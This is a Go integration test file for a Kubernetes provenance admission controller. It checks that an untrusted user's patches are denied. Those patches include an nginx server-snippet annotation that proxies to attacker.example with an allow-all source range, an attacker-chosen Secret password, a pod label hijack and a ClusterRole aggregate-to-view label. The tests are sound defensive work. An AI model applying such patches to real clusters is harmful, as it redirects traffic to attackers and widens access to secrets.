package test

import (
	"context"
	"fmt"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubetrail/kubetrail/api/v1alpha1"
	"github.com/kubetrail/kubetrail/internal/provenance"
	"github.com/kubetrail/kubetrail/internal/testenv"
)

// editUser returns a client for a user who may edit pods, secrets, ingresses and
// deployments in ns only (what the built-in edit role grants them; envtest runs no
// aggregation controller to fill edit in): the ordinary rights of a team member, and
// no trusted submitter.
func editUser(ctx context.Context, name, ns string) client.Client {
	cfg, err := testenv.UserConfig(testEnv, name)
	Expect(err).NotTo(HaveOccurred())
	c, err := client.New(cfg, client.Options{Scheme: scheme})
	Expect(err).NotTo(HaveOccurred())
	Expect(admin.Create(ctx, &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "editor"},
		Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"pods", "secrets"}, Verbs: []string{"get", "list", "patch", "update"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "list", "patch", "update"}},
			{APIGroups: []string{"networking.k8s.io"}, Resources: []string{"ingresses"}, Verbs: []string{"get", "list", "patch", "update"}},
		},
	})).To(Succeed())
	Expect(admin.Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-edit"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "editor"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: "rbac.authorization.k8s.io", Name: name}},
	})).To(Succeed())
	return c
}

// mergePatch sends a JSON merge patch, as `kubectl annotate`, `label` and `patch` do.
func mergePatch(ctx context.Context, c client.Client, obj client.Object, patch string) error {
	return c.Patch(ctx, obj, client.RawPatch(types.MergePatchType, []byte(patch)))
}

// deniedOutsidePipeline asserts err is the Enforce denial of an untraced content change by user.
func deniedOutsidePipeline(err error, user string) {
	GinkgoHelper()
	Expect(err).To(HaveOccurred(), "the change was admitted")
	Expect(apierrors.IsForbidden(err) || apierrors.IsInvalid(err)).To(BeTrue(), err.Error())
	Expect(err.Error()).To(ContainSubstring(user + " changed tracked content outside the pipeline"))
}

var _ = Describe("Labels, annotations and Secret values are tracked content (H2, H3)", func() {
	var ns string
	var mallory client.Client

	BeforeEach(func(ctx SpecContext) {
		ns = newNamespace(ctx)
		mallory = editUser(ctx, "mallory-"+ns, ns)
		newPolicy(ctx, ns, v1alpha1.TracePolicySpec{Mode: v1alpha1.ModeEnforce, RequiredFields: requireAll, TrustedSubmitters: trustPipeline})
	})

	It("denies an untrusted user's Ingress controller annotation", func(ctx SpecContext) {
		prefix := networkingv1.PathTypePrefix
		ing := &networkingv1.Ingress{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web", Annotations: pipelineProvenance(commitA)},
			Spec: networkingv1.IngressSpec{Rules: []networkingv1.IngressRule{{Host: "shop.example", IngressRuleValue: networkingv1.IngressRuleValue{
				HTTP: &networkingv1.HTTPIngressRuleValue{Paths: []networkingv1.HTTPIngressPath{{Path: "/", PathType: &prefix,
					Backend: networkingv1.IngressBackend{Service: &networkingv1.IngressServiceBackend{Name: "web", Port: networkingv1.ServiceBackendPort{Number: 80}}}}}},
			}}}},
		}
		Expect(users[pipeline].Create(ctx, ing)).To(Succeed())
		err := mergePatch(ctx, mallory, ing, `{"metadata":{"annotations":{`+
			`"nginx.ingress.kubernetes.io/server-snippet":"location /x { proxy_pass http://attacker.example; }",`+
			`"nginx.ingress.kubernetes.io/whitelist-source-range":"0.0.0.0/0"}}}`)
		deniedOutsidePipeline(err, "mallory-"+ns)
		Expect(admin.Get(ctx, client.ObjectKeyFromObject(ing), ing)).To(Succeed())
		Expect(ing.Annotations).NotTo(HaveKey("nginx.ingress.kubernetes.io/server-snippet"))
	})

	It("denies an untrusted user's label change on a bare Pod (which moves it behind a Service)", func(ctx SpecContext) {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tool", Labels: map[string]string{"app": "tool"}, Annotations: pipelineProvenance(commitA)},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "tool", Image: "busybox:1.36"}}},
		}
		Expect(users[pipeline].Create(ctx, pod)).To(Succeed())
		err := mergePatch(ctx, mallory, pod, `{"metadata":{"labels":{"app":"web"}}}`)
		deniedOutsidePipeline(err, "mallory-"+ns)
	})

	It("denies an untrusted user's new value of a Secret key", func(ctx SpecContext) {
		s := &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db", Annotations: pipelineProvenance(commitA)},
			Data:       map[string][]byte{"password": []byte("pipeline-chosen")},
		}
		Expect(users[pipeline].Create(ctx, s)).To(Succeed())
		err := mergePatch(ctx, mallory, s, `{"stringData":{"password":"attacker-chosen"}}`)
		deniedOutsidePipeline(err, "mallory-"+ns)
		Expect(err.Error()).NotTo(ContainSubstring("attacker-chosen"), "the denial repeats the value")
		Expect(err.Error()).NotTo(ContainSubstring("pipeline-chosen"), "the denial repeats the value")
		Expect(admin.Get(ctx, client.ObjectKeyFromObject(s), s)).To(Succeed())
		Expect(string(s.Data["password"])).To(Equal("pipeline-chosen"))

		// The pipeline's new value with a new commit is a traced change.
		Expect(mergePatch(ctx, users[pipeline], s, fmt.Sprintf(`{"metadata":{"annotations":{%q:%q}},"stringData":{"password":"rotated"}}`,
			provenance.CommitKey, commitB))).To(Succeed())
	})

	It("treats a controller-owned annotation as no content change: the admission facts stay", func(ctx SpecContext) {
		d := deployment(ns, "web", "nginx:1.27", pipelineProvenance(commitA))
		Expect(users[pipeline].Create(ctx, d)).To(Succeed())
		var before appsv1.Deployment
		Expect(admin.Get(ctx, client.ObjectKeyFromObject(d), &before)).To(Succeed())

		after := before.DeepCopy()
		Expect(mergePatch(ctx, users[human], after, `{"metadata":{"annotations":{"deployment.kubernetes.io/revision":"7"}}}`)).To(Succeed())
		Expect(after.Annotations).To(HaveKeyWithValue("deployment.kubernetes.io/revision", "7"))
		Expect(after.Annotations[provenance.AdmittedByKey]).To(Equal(pipeline))
		Expect(after.Annotations[provenance.DigestKey]).To(Equal(before.Annotations[provenance.DigestKey]))
		Expect(after.Annotations[provenance.AdmittedAtKey]).To(Equal(before.Annotations[provenance.AdmittedAtKey]))

		// An ordinary label is content: the same user's label change is denied.
		err := mergePatch(ctx, users[human], after, `{"metadata":{"labels":{"team":"other"}}}`)
		deniedOutsidePipeline(err, human)
	})
})

var _ = Describe("A ClusterRole's aggregation label is tracked content (H2)", func() {
	It("denies an untrusted user's aggregation label, which would grant the role's rules to every holder of view", func(ctx SpecContext) {
		name := fmt.Sprintf("crd-operator-%d", nsCounter.Add(1))
		p := &v1alpha1.TracePolicy{ObjectMeta: metav1.ObjectMeta{Name: "policy-" + name}, Spec: v1alpha1.TracePolicySpec{
			Mode: v1alpha1.ModeEnforce, RequiredFields: requireAll, TrustedSubmitters: trustPipeline,
			// Cluster-scoped: no namespaceSelector; only ClusterRoles, so other specs are not governed.
			Resources: []v1alpha1.ResourceSelector{{Group: "rbac.authorization.k8s.io", Kinds: []string{"ClusterRole"}}},
		}}
		Expect(admin.Create(ctx, p)).To(Succeed())
		DeferCleanup(func(ctx context.Context) { Expect(client.IgnoreNotFound(admin.Delete(ctx, p))).To(Succeed()) })

		role := &rbacv1.ClusterRole{
			ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: pipelineProvenance(commitA)},
			Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}}},
		}
		Eventually(func(ctx context.Context) error {
			// The manager's cache sees the policy a moment later; until then the create
			// is judged without it (and must still be by the pipeline to be traced).
			_ = client.IgnoreNotFound(admin.Delete(ctx, role.DeepCopy()))
			r := role.DeepCopy()
			if err := users[pipeline].Create(ctx, r); err != nil {
				return err
			}
			// Probe: the policy applies once an unstamped change by a human is denied.
			probe := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name + "-probe"}}
			err := users[human].Create(ctx, probe)
			if err == nil {
				_ = admin.Delete(ctx, probe)
				return fmt.Errorf("policy not applied yet")
			}
			return nil
		}).WithContext(ctx).Should(Succeed())
		DeferCleanup(func(ctx context.Context) { Expect(client.IgnoreNotFound(admin.Delete(ctx, role))).To(Succeed()) })

		Expect(admin.Get(ctx, client.ObjectKeyFromObject(role), role)).To(Succeed())
		err := mergePatch(ctx, users[human], role, `{"metadata":{"labels":{"rbac.authorization.k8s.io/aggregate-to-view":"true"}}}`)
		deniedOutsidePipeline(err, human)
	})
})
